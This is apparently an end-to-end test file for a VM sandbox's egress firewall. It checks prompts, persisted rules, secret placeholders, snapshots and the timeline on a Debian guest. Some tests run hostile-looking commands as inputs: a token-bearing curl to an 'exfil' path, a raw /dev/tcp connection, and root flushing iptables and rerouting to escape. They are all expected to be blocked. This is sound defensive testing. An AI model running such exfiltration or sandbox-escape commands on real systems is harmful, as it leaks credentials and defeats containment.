// End to end on a real guest: a Debian VM under QEMU (TCG) is started by the
// supervisor, its built-in hooks set up the route, redsocks and iptables, and
// everything it sends goes through the per-VM firewall: to the host as
// host.xray.internal, and to an internet of our own (a network namespace on
// 198.18.0.0/15 with HTTP, HTTPS, a non-HTTP server and DNS, see
// test/helpers/netlab.ts) by bare address, by name and by TLS name. Prompts
// and what each answer writes, persisted rules across a reboot, a root user
// who flushes iptables and adds a route of his own and still reaches nothing,
// DNS over the host path, a secret that stays on the host while the guest
// uses it, and a live snapshot that really brings memory and disk back.
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { XrayEvent } from '../../src-main/shared/contract';
import type { FirewallPrompt, HookRun, PromptScope, TimelineEntry } from '../../src-main/shared/models';
import { startBrowserServer } from '../../src-main/browser/server';
import { FIREWALL_PROBE_IP, HOST_INTERNAL_IP } from '../../src-main/core/firewall';
import { EGRESS_HOOK_NAME } from '../../src-main/core/guest/egress';
import { SHARES_HOOK_NAME } from '../../src-main/core/guest/shares';
import { SETUP_HOOK_NAME, VERIFY_HOOK_NAME } from '../../src-main/core/guest/setup';
import { connectVm, type SshSession } from '../../src-main/core/ssh';
import { hostSupervisor, type SupervisorHost } from '../../src-main/core/supervisor/host';
import { ensureTestGuest } from '../guest/guest';
import { buildRenderer, hasChromium, launchChromium, SCREENSHOTS } from './helpers';
import { xray } from '../helpers/cli';
import { makeTestHome, type TestHome } from '../helpers/home';
import { type TestInternet, startTestInternet, testInternetSupport } from '../helpers/netlab';

const skip = process.env.XRAY_SKIP_GUEST === '1';
if (skip) console.warn('e2e/guest: skipped because XRAY_SKIP_GUEST=1; no guest is booted.');
const internetSupport = testInternetSupport();
const noInternet = !internetSupport.ok;
if (!skip && !internetSupport.ok) console.warn(`e2e/guest: the outside-address steps are skipped: ${internetSupport.why}`);

const VM = 'e2e';
const BOOT_MS = 4 * 60_000;
const BUILD_TIMEOUT_MS = 40 * 60_000;
const BODY = 'hello from the host\n';
const FIRST_STEP = 'boots, runs the setup hooks once, and reports the firewall active';
/** SECRET is bound to vault.example.test; the guest gets only its placeholder. */
const SECRET = 'ghp_e2eTokenThatLivesOnlyOnTheHost0123456789';
const savedSecretBackend = process.env.XRAY_SECRET_BACKEND;

let home: TestHome;
let host: SupervisorHost;
let web: Server;
let webPort: number;
let otherWeb: Server;
let otherPort: number;
let ssh: SshSession | null = null;
let net: TestInternet | null = null;
/** booted turns true once the first boot verified the firewall; later steps need that VM. */
let booted = false;
const events: XrayEvent[] = [];

interface Shell {
  readonly code: number | null;
  readonly stdout: string;
  readonly stderr: string;
}

async function listen(server: Server): Promise<number> {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return (server.address() as AddressInfo).port;
}

/** waitForEvent resolves with the first event (from now on) that `match` accepts. */
function waitForEvent<T extends XrayEvent>(match: (e: XrayEvent) => e is T, timeoutMs: number, what: string): Promise<T>;
function waitForEvent(match: (e: XrayEvent) => boolean, timeoutMs: number, what: string): Promise<XrayEvent>;
function waitForEvent(match: (e: XrayEvent) => boolean, timeoutMs: number, what: string): Promise<XrayEvent> {
  return new Promise((resolve, reject) => {
    const timer = setTimeout(() => {
      stop();
      void diagnostics().then((d) => reject(new Error(`no ${what} within ${timeoutMs / 1000} s\n${d}`)));
    }, timeoutMs);
    const stop = host.service.subscribe((e) => {
      if (!match(e)) return;
      clearTimeout(timer);
      stop();
      resolve(e);
    });
  });
}

async function diagnostics(): Promise<string> {
  const vm = home.paths.vm(VM);
  const tail = async (file: string) => (await readFile(file, 'utf8').catch(() => '')).split('\n').slice(-25).join('\n');
  return `hook log:\n${await tail(vm.hookLog)}\nconsole:\n${await tail(vm.consoleLog)}`;
}

/**
 * startAndVerify starts the VM and waits until it is ready and the built-in
 * boot hooks have run (the last gives the guest its egress CA and secret
 * placeholders, after the in-guest redirection was verified); a failed
 * built-in hook fails at once with its error.
 */
async function startAndVerify(): Promise<void> {
  const verified = new Promise<void>((resolve, reject) => {
    waitForEvent(
      (e) => e.type === 'hook.finished' && e.run.vm === VM && e.run.source === 'built-in' && (e.run.error !== null || e.run.script === EGRESS_HOOK_NAME),
      BOOT_MS,
      'the built-in boot hooks to finish',
    ).then(async (e) => {
      const run = (e as Extract<XrayEvent, { type: 'hook.finished' }>).run;
      if (run.error === null) resolve();
      else reject(new Error(`built-in hook ${run.script} failed: ${run.error}\n${await diagnostics()}`));
    }, reject);
  });
  await host.service.call('vm.start', { name: VM });
  await verified;
  const [summary] = await host.service.call('vm.list', {});
  expect(summary).toMatchObject({ name: VM, state: 'ready', firewallActive: true });
}

async function session(): Promise<SshSession> {
  if (ssh?.isOpen) return ssh;
  ssh = await connectVm(home.paths, VM, await host.service.sshTarget(VM), { timeoutMs: 60_000 });
  return ssh;
}

function dropSession(): void {
  ssh?.close();
  ssh = null;
}

async function sh(command: string, timeoutMs = 90_000): Promise<Shell> {
  let stdout = '';
  let stderr = '';
  const { code } = await (await session()).exec(command, {
    timeoutMs,
    onStdout: (t) => (stdout += t),
    onStderr: (t) => (stderr += t),
  });
  return { code, stdout, stderr };
}

function nextPrompt(port: number, ip?: string): Promise<FirewallPrompt> {
  return waitForEvent(
    (e): e is Extract<XrayEvent, { type: 'prompt.opened' }> =>
      e.type === 'prompt.opened' && e.prompt.vm === VM && e.prompt.destination.port === port && (ip === undefined || e.prompt.destination.ip === ip),
    120_000,
    `prompt for ${ip ?? 'port'} ${port}`,
  ).then((e) => e.prompt);
}

/** guestProcessOf waits until Xray has asked the guest which program holds the prompt's connection. */
async function guestProcessOf(prompt: FirewallPrompt): Promise<FirewallPrompt['guestProcess']> {
  if (prompt.guestProcess) return prompt.guestProcess;
  const updated = await waitForEvent(
    (e): e is Extract<XrayEvent, { type: 'prompt.updated' }> => e.type === 'prompt.updated' && e.prompt.id === prompt.id && e.prompt.guestProcess !== null,
    // Asking the guest takes an SSH round or two; under TCG on a loaded host that can take a while.
    60_000,
    'the prompt to name the guest process',
  );
  return updated.prompt.guestProcess;
}

/**
 * promptedWhile runs a guest command that should raise a prompt for `ip:port`,
 * answers it as given once the prompt names the guest program, and returns
 * the prompt and the command's result.
 */
async function promptedWhile(
  command: string,
  where: { ip: string; port: number },
  answer: { action: 'allow' | 'deny'; scope: PromptScope; lifetime: 'once' | 'until-stop' | 'forever' },
): Promise<{ prompt: FirewallPrompt; program: FirewallPrompt['guestProcess']; result: Shell }> {
  const prompted = nextPrompt(where.port, where.ip);
  const running = sh(command, 120_000);
  const prompt = await prompted;
  const program = await guestProcessOf(prompt);
  await host.service.call('prompt.answer', { id: prompt.id, ...answer });
  return { prompt, program, result: await running };
}

/** rulesFile is vm.toml's [firewall] table as the user would read it. */
async function rulesFile(): Promise<Record<string, unknown>> {
  const { firewall } = (await host.service.call('vm.info', { name: VM })).config as { firewall?: Record<string, unknown> };
  return firewall ?? {};
}

function promptsSince(since: number): FirewallPrompt[] {
  return events.slice(since).flatMap((e) => (e.type === 'prompt.opened' ? [e.prompt] : []));
}

function outside(): TestInternet {
  if (!net) throw new Error('the test internet is not running');
  return net;
}

/**
 * bindVaultSecret sets a secret and binds it to vault.example.test before the
 * first boot, as a person would: the boot hooks then give the guest the VM's
 * CA and the placeholder in GITHUB_TOKEN. vault allows GET and refuses POST
 * under /admin/; upload.example.test is intercepted for its HTTP rule;
 * plain.example.test is allowed and has neither.
 */
async function bindVaultSecret(): Promise<void> {
  await host.service.call('secret.set', { name: 'github', value: SECRET });
  await host.service.call('secret.bind', { vm: VM, secret: 'github', hosts: ['vault.example.test'], header: 'Authorization', format: 'Bearer {}', env: 'GITHUB_TOKEN' });
  const rules = ['vault.example.test:443', 'plain.example.test:443', 'upload.example.test GET,POST /*'];
  for (const target of rules) await host.service.call('firewall.add', { vm: VM, target, action: 'allow', lifetime: 'forever' });
  await host.service.call('firewall.add', { vm: VM, target: 'vault.example.test POST /admin/*', action: 'deny', lifetime: 'forever' });
}

function curlHost(port: number, seconds = 60): Promise<Shell> {
  return sh(`curl -sS -m ${seconds} http://host.xray.internal:${port}/`, (seconds + 30) * 1000);
}

describe.skipIf(skip)('a real guest behind its firewall', () => {
  beforeAll(async () => {
    const { image } = await ensureTestGuest({ log: (line) => process.stderr.write(`[guest build] ${line}\n`) });
    home = await makeTestHome('xray-e2e-guest-');
    if (internetSupport.ok) {
      net = await startTestInternet({
        names: { 'www.example.test': 'web', 'other.example.test': 'web', 'vault.example.test': 'tls', 'upload.example.test': 'tls', 'plain.example.test': 'tls' },
      });
    }
    // The guest's names resolve in the test internet (the documented dns_servers setting), and Xray trusts its
    // HTTPS server's CA when it intercepts (upstream_ca_file).
    // stop_timeout stays at its default: the stops below show how this guest really goes down.
    await writeFile(home.paths.configFile, net ? `dns_servers = ["${net.dnsServer}"]\nupstream_ca_file = "${net.caCertPath}"\n` : '');
    process.env.XRAY_SECRET_BACKEND = 'file';
    web = createServer((_req, res) => res.end(BODY));
    webPort = await listen(web);
    otherWeb = createServer((_req, res) => res.end('must not be reached\n'));
    otherPort = await listen(otherWeb);
    host = await hostSupervisor(home.paths);
    host.service.subscribe((e) => events.push(e));
    await host.service.call('base.import', { path: image, name: 'debian', arch: 'x86_64', link: true, cloudInit: true });
    await host.service.call('vm.create', { name: VM, base: 'debian', memoryMb: 1024, cpus: 2, sshUser: 'xray' });
    if (net) await bindVaultSecret();
  }, BUILD_TIMEOUT_MS);

  afterAll(async () => {
    dropSession();
    await host?.close({ stopVms: true });
    web?.close();
    otherWeb?.close();
    await net?.close();
    await home?.cleanup();
    if (savedSecretBackend === undefined) delete process.env.XRAY_SECRET_BACKEND;
    else process.env.XRAY_SECRET_BACKEND = savedSecretBackend;
  }, 120_000);

  beforeEach(({ task }) => {
    if (task.name !== FIRST_STEP && !booted) throw new Error('the VM never came up with its firewall verified; see the first step');
  });

  it(FIRST_STEP, async () => {
    await startAndVerify();
    booted = true;
    const finished = events.flatMap((e) => (e.type === 'hook.finished' && e.run.source === 'built-in' ? [e.run] : []));
    expect(finished.map((r: HookRun) => [r.type, r.script, r.error])).toEqual([
      ['initial-boot', SETUP_HOOK_NAME, null],
      ['boot', VERIFY_HOOK_NAME, null],
      ['boot', SHARES_HOOK_NAME, null],
      ['boot', EGRESS_HOOK_NAME, null],
    ]);
    expect(events.some((e) => e.type === 'firewall.status' && e.vm === VM && e.active)).toBe(true);
  }, BOOT_MS + 30_000);

  it('asks before the guest reaches the host, and lets the request through once allowed', async () => {
    const prompted = nextPrompt(webPort);
    const fetching = curlHost(webPort);
    const prompt = await prompted;
    expect(prompt.destination).toMatchObject({ name: 'host.xray.internal', port: webPort });
    // While the prompt shows, Xray asks the guest which process opened the connection.
    const updated = await waitForEvent(
      (e): e is Extract<XrayEvent, { type: 'prompt.updated' }> => e.type === 'prompt.updated' && e.prompt.id === prompt.id && e.prompt.guestProcess !== null,
      30_000,
      'the prompt to name the guest process',
    );
    expect(updated.prompt.guestProcess).toMatchObject({ command: expect.stringContaining('curl'), user: 'xray' });
    await host.service.call('prompt.answer', { id: prompt.id, action: 'allow', scope: 'host-port', lifetime: 'forever' });
    expect(await fetching).toMatchObject({ code: 0, stdout: BODY });
  }, 180_000);

  it('refuses a destination the user denies', async () => {
    const prompted = nextPrompt(otherPort);
    const fetching = curlHost(otherPort);
    const prompt = await prompted;
    await host.service.call('prompt.answer', { id: prompt.id, action: 'deny', scope: 'host-port', lifetime: 'until-stop' });
    const result = await fetching;
    expect(result.code).not.toBe(0);
    expect(result.stdout).not.toContain('must not be reached');
  }, 180_000);

  it('proved, at boot, that an outside address reaches the firewall', async () => {
    const log = await host.service.call('firewall.log', { vm: VM, limit: 10_000 });
    expect(log.some((e) => e.kind === 'decision' && e.destination.ip === FIREWALL_PROBE_IP && e.action === 'allow')).toBe(true);
    expect((await sh('ip -4 route show default')).stdout).toContain('dev xray0');
  });

  it.skipIf(noInternet)('asks about a bare outside address, names the guest program, and an allow once lets it through once', async () => {
    const { addresses } = outside();
    const rulesBefore = await rulesFile();
    const { prompt, program, result } = await promptedWhile(`curl -sS -m 60 http://${addresses.web}/bare`, { ip: addresses.web, port: 80 }, { action: 'allow', scope: 'host-port', lifetime: 'once' });
    expect(prompt.destination).toMatchObject({ ip: addresses.web, port: 80, name: null });
    expect(program).toMatchObject({ command: expect.stringContaining('curl'), user: 'xray' });
    expect(result).toMatchObject({ code: 0, stdout: `hello from web ${addresses.web} host=${addresses.web} path=/bare\n` });
    expect(await rulesFile()).toEqual(rulesBefore);
  }, 180_000);

  it.skipIf(noInternet)('asks about a name the guest looked up, and "the name on any port" writes exactly that rule', async () => {
    const { addresses, ports } = outside();
    const rulesBefore = await rulesFile();
    const { prompt, result } = await promptedWhile('curl -sS -m 60 http://api.example.test/name', { ip: addresses.web, port: 80 }, { action: 'allow', scope: 'domain', lifetime: 'forever' });
    expect(prompt.destination).toMatchObject({ ip: addresses.web, name: 'api.example.test' });
    expect(result).toMatchObject({ code: 0, stdout: `hello from web ${addresses.web} host=api.example.test path=/name\n` });
    expect(await rulesFile()).toEqual({ ...rulesBefore, 'api.example.test': 'allow' });
    const since = events.length;
    expect(await sh(`curl -sS -m 30 http://api.example.test:${ports.httpAlt}/other-port`)).toMatchObject({ code: 0, stdout: expect.stringContaining('path=/other-port') });
    expect(promptsSince(since)).toEqual([]);
  }, 180_000);

  it.skipIf(noInternet)('names an HTTPS connection by its TLS server name, and "host and port" writes name:443', async () => {
    const { addresses, caCertPem } = outside();
    expect((await (await session()).exec('cat > /tmp/netlab-ca.pem', { stdin: caCertPem })).code).toBe(0);
    // --resolve skips the guest's DNS: the firewall learns the name from the TLS handshake alone.
    const { prompt, result } = await promptedWhile(
      `curl -sS -m 60 --cacert /tmp/netlab-ca.pem --resolve secure.example.test:443:${addresses.tls} https://secure.example.test/tls`,
      { ip: addresses.tls, port: 443 },
      { action: 'allow', scope: 'host-port', lifetime: 'forever' },
    );
    expect(prompt.destination).toMatchObject({ ip: addresses.tls, port: 443, name: 'secure.example.test', nameSource: 'sni' });
    expect(result).toMatchObject({ code: 0, stdout: `hello from tls ${addresses.tls} host=secure.example.test path=/tls\n` });
    expect(await rulesFile()).toMatchObject({ 'secure.example.test:443': 'allow' });
    expect((await outside().requests()).some((r) => r.server === 'tls' && r.sni === 'secure.example.test')).toBe(true);
  }, 180_000);

  it.skipIf(noInternet)('keeps a bound secret on the host: the guest holds a placeholder, and the value reaches only its host, in its header', async () => {
    const { addresses } = outside();
    const [binding] = await host.service.call('secret.bindings', { vm: VM });
    const placeholder = binding?.placeholder ?? 'none';
    // A new login, as a person's: PAM reads /etc/environment when a connection logs in.
    dropSession();
    expect((await sh('printenv GITHUB_TOKEN')).stdout.trim()).toBe(placeholder);
    // No --cacert: the boot hook put the VM's CA into the guest's trust store.
    const used = await sh('curl -sS -m 60 -H "Authorization: Bearer $GITHUB_TOKEN" https://vault.example.test/api');
    expect(used).toMatchObject({ code: 0, stdout: `hello from tls ${addresses.tls} host=vault.example.test path=/api\n` });
    const arrived = (await outside().requests()).filter((r) => r.path === '/api');
    expect(arrived.map((r) => r.authorization)).toEqual([`Bearer ${SECRET}`]);

    const exfiltration = await sh('curl -sS -m 60 -o /dev/null -w "%{http_code}" -H "Authorization: Bearer $GITHUB_TOKEN" https://upload.example.test/exfil');
    expect(exfiltration.stdout).toBe('403');
    const admin = await sh('curl -sS -m 60 -o /dev/null -w "%{http_code}" -X POST -H "Authorization: Bearer $GITHUB_TOKEN" https://vault.example.test/admin/users');
    expect(admin.stdout).toBe('403');
    const seen = (await outside().requests()).map((r) => r.path);
    expect(seen).not.toContain('/exfil');
    expect(seen).not.toContain('/admin/users');
    const timeline = await host.service.call('vm.timeline', { vm: VM });
    expect(timeline).toContainEqual(expect.objectContaining({ kind: 'egress', report: expect.objectContaining({ kind: 'secret-refused', secret: 'github', host: 'upload.example.test' }) }));
    expect(timeline).toContainEqual(expect.objectContaining({ kind: 'egress', report: expect.objectContaining({ kind: 'request-refused', host: 'vault.example.test', method: 'POST' }) }));

    // A host with no binding and no HTTP rule stays end to end: the guest sees the server's own certificate, and
    // the bound host one from the VM's CA. (The guest trusts both: the VM's CA is in its system store.)
    expect((await (await session()).exec('cat > /tmp/netlab-ca.pem', { stdin: outside().caCertPem })).code).toBe(0);
    const issuer = async (url: string): Promise<string> => (await sh(`curl -sS -m 60 -v -o /dev/null --cacert /tmp/netlab-ca.pem ${url} 2>&1 | grep -i 'issuer:'`)).stdout;
    expect(await issuer('https://plain.example.test/own-certificate')).toContain('CN=Xray test internet CA');
    expect(await issuer('https://vault.example.test/intercepted')).toContain(`CN=Xray egress CA for VM ${VM}`);

    // The value is nowhere in the guest: not in its environment, not in a file the hooks wrote. (The pattern goes
    // in on stdin, so no command line or log in the guest holds it.)
    const search = async (command: string): Promise<string> => {
      let out = '';
      await (await session()).exec(command, { stdin: `${SECRET}\n`, timeoutMs: 240_000, onStdout: (t) => (out += t) });
      return out.trim();
    };
    expect(await search('env | grep -c -F -f /dev/stdin || true')).toBe('0');
    expect(await search('sudo -n grep -rIl -F -f /dev/stdin /etc /home /root /var /tmp /run /opt /usr/local 2>/dev/null || true')).toBe('');
    expect(JSON.stringify(events)).not.toContain(SECRET);
  }, 600_000);

  it.skipIf(noInternet)('asks about a server that speaks no HTTP, and "the address on any port" writes the bare address', async () => {
    const { addresses, ports } = outside();
    const { prompt, result } = await promptedWhile(
      `timeout 60 bash -c 'exec 3<>/dev/tcp/${addresses.tcp}/${ports.tcp}; head -n 1 <&3'`,
      { ip: addresses.tcp, port: ports.tcp },
      { action: 'allow', scope: 'any-port', lifetime: 'forever' },
    );
    expect(prompt.destination).toMatchObject({ ip: addresses.tcp, name: null });
    expect(result).toMatchObject({ code: 0, stdout: `netlab tcp ${addresses.tcp} ready\n` });
    expect(await rulesFile()).toMatchObject({ [addresses.tcp]: 'allow' });
    const since = events.length;
    expect(await sh(`curl -sS -m 30 http://${addresses.tcp}:${ports.httpAlt}/any-port`)).toMatchObject({ code: 0, stdout: expect.stringContaining('path=/any-port') });
    expect(promptsSince(since)).toEqual([]);
  }, 180_000);

  it.skipIf(noInternet)('writes *.suffix for "the domain and its sub-domains", which then covers a sibling name', async () => {
    const { addresses } = outside();
    const { prompt, result } = await promptedWhile('curl -sS -m 60 http://www.example.test/www', { ip: addresses.web, port: 80 }, { action: 'allow', scope: 'domain-suffix', lifetime: 'forever' });
    expect(prompt.destination).toMatchObject({ name: 'www.example.test' });
    expect(result.code).toBe(0);
    expect(await rulesFile()).toMatchObject({ '*.example.test': 'allow' });
    const since = events.length;
    expect(await sh('curl -sS -m 30 http://other.example.test/sibling')).toMatchObject({ code: 0, stdout: expect.stringContaining('host=other.example.test') });
    expect(promptsSince(since)).toEqual([]);
  }, 180_000);

  it.skipIf(noInternet)('refuses what the user denies, and a remembered deny refuses at once without asking', async () => {
    const { addresses, ports } = outside();
    const url = `http://${addresses.dns}:${ports.httpAlt}/denied`;
    const { result } = await promptedWhile(`curl -sS -m 60 ${url}`, { ip: addresses.dns, port: ports.httpAlt }, { action: 'deny', scope: 'host-port', lifetime: 'forever' });
    expect(result.code).not.toBe(0);
    expect(await rulesFile()).toMatchObject({ [`${addresses.dns}:${ports.httpAlt}`]: 'deny' });
    const since = events.length;
    const started = Date.now();
    const again = await sh(`curl -sS -m 60 ${url}`);
    expect(again.code).not.toBe(0);
    expect(Date.now() - started).toBeLessThan(10_000);
    expect(promptsSince(since)).toEqual([]);
    expect((await outside().requests()).some((r) => r.path === '/denied')).toBe(false);
  }, 180_000);

  it.skipIf(noInternet)('closes a prompt whose program gave up, instead of counting down for minutes', async () => {
    const { addresses } = outside();
    const prompted = nextPrompt(80, addresses.dns);
    const gaveUp = sh(`curl -sS -m 5 http://${addresses.dns}/patience`);
    const prompt = await prompted;
    expect((await gaveUp).code).not.toBe(0);
    const closed = await waitForEvent(
      (e): e is Extract<XrayEvent, { type: 'prompt.closed' }> => e.type === 'prompt.closed' && e.id === prompt.id,
      30_000,
      'the abandoned prompt to close',
    );
    expect(closed.reason).toBe('abandoned');
  }, 120_000);

  it('fails a connection to an outside IPv6 address at once', async () => {
    const since = events.length;
    const started = Date.now();
    const attempt = await sh('curl -sS -m 30 http://[2001:db8::1]/');
    expect(attempt.code).not.toBe(0);
    expect(Date.now() - started).toBeLessThan(5000);
    expect(promptsSince(since)).toEqual([]);
  }, 60_000);

  it('keeps a forever rule in vm.toml across a restart, and the guest setup survives the reboot', async () => {
    // The guest looked the name up through Xray's DNS, so "host and port" names it.
    expect(await readFile(home.paths.vm(VM).config, 'utf8')).toContain(`"host.xray.internal:${webPort}" = "allow"`);
    dropSession();
    const stop = await host.service.call('vm.stop', { name: VM });
    console.info(`guest: stopped by ${stop.stoppedBy}`);
    expect(stop).toMatchObject({ state: 'stopped', firewallActive: false, stoppedBy: expect.stringMatching(/^(power-button|ssh)$/) });
    const since = events.length;
    await startAndVerify();
    const repaired = events.slice(since).some((e) => e.type === 'hook.output' && e.script === VERIFY_HOOK_NAME && e.text.includes('repairing'));
    expect(repaired).toBe(false);
    expect(await curlHost(webPort)).toMatchObject({ code: 0, stdout: BODY });
    if (net) {
      expect(await sh('curl -sS -m 60 http://api.example.test/after-reboot')).toMatchObject({ code: 0, stdout: expect.stringContaining('path=/after-reboot') });
      // The guest's network manager at work: a DHCP renewal, a reconfigure and a restart of networkd leave the route.
      const dev = '"$(ip -4 route show 10.0.2.0/24 | cut -d" " -f3)"';
      const churn = await sh(`sudo -n networkctl renew ${dev} && sudo -n networkctl reconfigure ${dev} && sudo -n systemctl restart systemd-networkd && sleep 5`);
      expect(churn.code, churn.stderr).toBe(0);
      expect(await sh('curl -sS -m 60 http://api.example.test/after-renewal')).toMatchObject({ code: 0, stdout: expect.stringContaining('path=/after-renewal') });
    }
    expect(events.slice(since).some((e) => e.type === 'prompt.opened')).toBe(false);
  }, BOOT_MS + 150_000);

  it('gives root in the guest no way out once iptables is flushed and a route of its own added, and the boot hook repairs it', async () => {
    const flushed = await sh(
      'sudo -n /usr/sbin/iptables -w -t nat -F && sudo -n /usr/sbin/iptables -w -t nat -X XRAY && ' +
        'sudo -n ip route replace default via 10.0.2.2 dev "$(ip -4 route show 10.0.2.0/24 | cut -d" " -f3)"',
    );
    expect(flushed.code, flushed.stderr).toBe(0);
    const seenBefore = net ? (await net.requests()).length : 0;
    const attempts = await Promise.all([
      sh(`curl -sS -m 10 http://10.0.2.2:${webPort}/`, 40_000),
      sh(`curl -sS -m 10 http://10.0.2.3:${webPort}/`, 40_000),
      curlHost(webPort, 10),
      ...(net ? [sh(`curl -sS -m 10 http://${net.addresses.web}/escape`, 40_000), sh(`curl -sS -m 10 http://api.example.test/escape`, 40_000)] : []),
    ]);
    for (const attempt of attempts) {
      expect(attempt.code).not.toBe(0);
      expect(attempt.stdout).not.toContain(BODY);
      expect(attempt.stdout).not.toContain('hello from');
    }
    if (net) expect((await net.requests()).slice(seenBefore).filter((r) => r.server !== 'dns')).toEqual([]);
    const since = events.length;
    const runs = await host.service.call('hooks.run', { vm: VM, type: 'boot' });
    expect(runs.find((r) => r.script === VERIFY_HOOK_NAME)).toMatchObject({ exitCode: 0, error: null });
    const repairs = events.slice(since).filter((e) => e.type === 'hook.output' && e.script === VERIFY_HOOK_NAME && e.text.includes('repairing'));
    expect(repairs).toHaveLength(1);
    expect((await host.service.call('vm.list', {}))[0]).toMatchObject({ firewallActive: true });
    expect(await curlHost(webPort)).toMatchObject({ code: 0, stdout: BODY });
  }, 240_000);

  it('resolves names through the firewall and logs the lookup', async () => {
    const dnsLookups = async () =>
      (await host.service.call('firewall.log', { vm: VM, limit: 10_000 })).filter((e) => e.kind === 'dns' && e.destination.name === 'host.xray.internal').length;
    const before = await dnsLookups();
    const lookup = await sh('getent hosts host.xray.internal');
    expect(lookup.code, lookup.stderr).toBe(0);
    expect(lookup.stdout.trim().split(/\s+/)[0]).toBe(HOST_INTERNAL_IP);
    expect(await dnsLookups()).toBeGreaterThan(before);
  }, 120_000);

  it('reverts a live snapshot: the guest\'s file is back as it was', async () => {
    expect((await sh('echo before-snapshot > ~/state.txt && sync')).code).toBe(0);
    await host.service.call('snapshot.create', { vm: VM, name: 'checkpoint' });
    expect((await sh('echo after-snapshot > ~/state.txt && sync')).code).toBe(0);
    await host.service.call('snapshot.revert', { vm: VM, name: 'checkpoint' });
    // The guest's memory, TCP state included, went back: this session is dead.
    dropSession();
    const read = await sh('cat ~/state.txt');
    expect(read.stdout.trim()).toBe('before-snapshot');
  }, 300_000);

  it('keeps the session on the VM\'s timeline: boot, hooks, a prompt answered, a denied connection, a snapshot and its revert', async () => {
    const listed = await xray(home.root, ['timeline', VM, '--json']);
    expect(listed.code, listed.stderr).toBe(0);
    const entries = JSON.parse(listed.stdout) as TimelineEntry[];
    const where = (test: (e: TimelineEntry) => boolean): number => entries.findIndex(test);
    const started = where((e) => e.kind === 'lifecycle' && e.event === 'starting');
    const setUp = where((e) => e.kind === 'hook' && e.script === SETUP_HOOK_NAME && e.exitCode === 0);
    const answered = where((e) => e.kind === 'prompt' && e.event === 'closed' && e.action === 'allow');
    const denied = where((e) => e.kind === 'network' && e.action === 'deny');
    const taken = where((e) => e.kind === 'snapshot' && e.event === 'created' && e.name === 'checkpoint');
    const reverted = where((e) => e.kind === 'snapshot' && e.event === 'reverted' && e.name === 'checkpoint');
    expect({ started, setUp, answered, denied, taken, reverted }).toEqual({
      started: 0,
      setUp: expect.any(Number),
      answered: expect.any(Number),
      denied: expect.any(Number),
      taken: expect.any(Number),
      reverted: expect.any(Number),
    });
    expect(Math.min(setUp, answered, denied, taken)).toBeGreaterThan(started);
    expect(reverted).toBeGreaterThan(taken);
    const table = await xray(home.root, ['timeline', VM]);
    expect(table.stdout).toContain('snapshot "checkpoint" reverted');

    if (!hasChromium) return;
    const renderer = await buildRenderer();
    const server = await startBrowserServer({ api: host.service, rendererDir: renderer.dir });
    const browser = await launchChromium();
    try {
      const page = await browser.newPage({ viewport: { width: 1100, height: 760 }, colorScheme: 'light' });
      await page.goto(server.url);
      await page.locator(`tr[data-vm="${VM}"]`).getByRole('button', { name: VM, exact: true }).click();
      await page.getByRole('tab', { name: 'Timeline' }).click();
      const timeline = page.getByRole('region', { name: 'Timeline, oldest first' });
      await timeline.locator('li[data-now]').waitFor();
      // The list draws only the rows in view: narrow it to each kind of event in turn (snapshots always show).
      for (const words of [SETUP_HOOK_NAME, 'denied', 'allowed']) {
        await page.getByLabel('Events containing').fill(words);
        await expect.poll(async () => (await timeline.textContent()) ?? '').toContain(words);
        expect(await timeline.textContent()).toContain('checkpoint');
      }
      await page.getByLabel('Events containing').fill('');
      await page.screenshot({ path: join(SCREENSHOTS, 'timeline-real-guest.png') });
    } finally {
      await browser.close();
      await server.close();
      await renderer.cleanup();
    }
  }, 180_000);

  it('shuts a guest that ignores the power button down over SSH, and says so', async () => {
    // The stock Debian cloud guest ignored the button under TCG; logind told to ignore it does the same.
    const ignore = await sh(
      "sudo -n mkdir -p /etc/systemd/logind.conf.d && printf '[Login]\\nHandlePowerKey=ignore\\n' | sudo -n tee /etc/systemd/logind.conf.d/xray-test.conf >/dev/null && sudo -n systemctl restart systemd-logind",
    );
    expect(ignore.code, ignore.stderr).toBe(0);
    dropSession();
    const started = Date.now();
    const stopped = await host.service.call('vm.stop', { name: VM });
    console.info(`guest: stopped by ${stopped.stoppedBy} in ${((Date.now() - started) / 1000).toFixed(1)} s`);
    expect(stopped).toMatchObject({ state: 'stopped', pid: null, stoppedBy: 'ssh' });
  }, 120_000);
});
